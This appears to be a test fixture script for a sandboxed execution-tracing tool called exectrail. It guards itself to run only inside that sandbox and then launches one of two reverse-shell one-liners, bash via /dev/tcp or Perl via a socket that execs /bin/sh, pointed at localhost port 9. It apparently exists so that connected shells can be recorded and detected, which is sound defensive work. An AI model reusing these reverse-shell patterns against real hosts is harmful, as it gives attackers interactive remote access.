#!/bin/sh
# A shell is connected to the network, in the ways that need no tool of their own.
[ "${EXECTRAIL_SANDBOX:-}" = 1 ] && [ $$ -eq 2 ] || { echo "only below: exectrail replay record-live" >&2; exit 97; }
set -eu

case $1 in
  bash) bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' || true ;;
  perl) perl -e 'use Socket; my $s = socket(S, PF_INET, SOCK_STREAM, 6); if (connect(S, sockaddr_in(9, inet_aton("127.0.0.1")))) { open(STDIN, ">&S"); exec("/bin/sh -i"); } select undef, undef, undef, 0.1' || true ;;
esac
sleep 0.05
